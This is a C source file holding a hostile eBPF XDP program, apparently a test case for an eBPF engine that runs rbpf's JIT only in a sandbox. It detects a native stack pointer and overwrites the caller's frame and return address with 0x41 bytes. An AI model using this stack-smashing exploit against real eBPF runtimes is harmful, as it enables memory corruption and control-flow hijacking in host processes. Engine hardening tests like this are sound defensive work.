// SPDX-License-Identifier: MIT OR Apache-2.0
/*
 * r10_smash.c - ATTACK: behave harmlessly where r10 points into a heap
 * buffer (rbpf's interpreter), and smash the native stack where r10 is the
 * native stack (rbpf's JIT, whose memory accesses are not checked).
 *
 * x86_64 user-space stacks live at 0x7ff0_0000_0000 and above; heap and
 * engine addresses do not. So "r10 >> 40 >= 0x7f" is true only on a native
 * stack. On that path the program writes 0x4141414141414141 over the 128
 * bytes ABOVE its frame (where the caller's frame and return address are)
 * and then returns r10's low bits as the verdict.
 *
 * Expected: the engine (tagged addresses: r10 >> 40 is the stack tag, 2)
 * takes the harmless path and returns XDP_PASS; rbpf's JIT runs only in a
 * sandboxed child, whose crash is that row's result.
 */
#include "hostile.h"

SEC("xdp")
int r10_smash(struct xdp_md *ctx)
{
	asm volatile(
		"r1 = r10;"
		"r1 >>= 40;"
		"if r1 < 0x7f goto 1f;"
		"r2 = 0x4141414141414141 ll;"
		"*(u64 *)(r10 + 8) = r2;"
		"*(u64 *)(r10 + 16) = r2;"
		"*(u64 *)(r10 + 24) = r2;"
		"*(u64 *)(r10 + 32) = r2;"
		"*(u64 *)(r10 + 40) = r2;"
		"*(u64 *)(r10 + 48) = r2;"
		"*(u64 *)(r10 + 56) = r2;"
		"*(u64 *)(r10 + 64) = r2;"
		"*(u64 *)(r10 + 72) = r2;"
		"*(u64 *)(r10 + 80) = r2;"
		"*(u64 *)(r10 + 88) = r2;"
		"*(u64 *)(r10 + 96) = r2;"
		"*(u64 *)(r10 + 104) = r2;"
		"*(u64 *)(r10 + 112) = r2;"
		"*(u64 *)(r10 + 120) = r2;"
		"*(u64 *)(r10 + 128) = r2;"
		"r0 = r10;"
		"exit;"
		"1:"
		::: "r1", "r2", "r0", "memory");
	return XDP_PASS;
}

char _license[] SEC("license") = "GPL";
